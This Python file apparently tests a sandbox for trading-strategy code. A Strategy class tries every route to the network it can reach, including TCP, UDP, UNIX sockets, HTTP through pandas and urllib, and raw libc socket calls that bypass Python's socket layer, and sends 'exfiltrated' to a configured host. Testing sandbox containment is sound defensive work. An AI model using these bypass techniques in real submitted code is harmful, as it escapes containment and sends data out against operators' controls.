"""Attack: reach the network every way Python allows (TCP, UDP, UNIX, HTTP via pandas/urllib)."""

import ctypes
import json
import socket
import urllib.request

import pandas as pd
from backtesting import Strategy

P = json.loads("""__PARAMS__""")
libc = ctypes.CDLL(None, use_errno=True)


def attempt(name, action):
    try:
        action()
    except BaseException as exc:
        print(f"attempt {name}: blocked ({type(exc).__name__}: {exc})")
    else:
        print(f"attempt {name}: SUCCEEDED")


def raw(result):
    if result < 0:
        raise OSError(ctypes.get_errno(), "libc call failed")
    return result


def tcp():
    with socket.create_connection((P["host"], P["tcp_port"]), timeout=2) as conn:
        conn.sendall(b"exfiltrated")


def udp():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.sendto(b"exfiltrated", (P["host"], P["udp_port"]))


def unix():
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as sock:
        sock.connect(P["unix_path"])


def raw_udp():
    fd = raw(libc.socket(socket.AF_INET, socket.SOCK_DGRAM, 0))
    addr = socket.inet_aton(P["host"])
    sockaddr = (
        socket.AF_INET.to_bytes(2, "little") + P["udp_port"].to_bytes(2, "big") + addr + bytes(8)
    )
    raw(libc.sendto(fd, b"exfiltrated", 11, 0, sockaddr, len(sockaddr)))


class NetworkAttack(Strategy):
    def init(self):
        url = f"http://{P['host']}:{P['tcp_port']}/prices.csv"
        attempt("tcp connect", tcp)
        attempt("udp sendto", udp)
        attempt("unix connect", unix)
        # elsewhere: TEST-NET-1, a documentation range that is never routed
        attempt("tcp connect elsewhere", lambda: socket.create_connection(("192.0.2.1", 80), 1))
        attempt("udp elsewhere", lambda: socket.socket(2, 2).sendto(b"x", ("192.0.2.1", 53)))
        attempt("pandas read_csv url", lambda: pd.read_csv(url))
        attempt("urllib urlopen", lambda: urllib.request.urlopen(url, timeout=2))
        attempt("socketpair", socket.socketpair)
        attempt("raw libc socket tcp", lambda: raw(libc.socket(socket.AF_INET, 1, 0)))
        attempt("raw libc udp sendto", raw_udp)
        attempt("raw libc netlink", lambda: raw(libc.socket(16, socket.SOCK_RAW, 0)))

    def next(self):
        pass
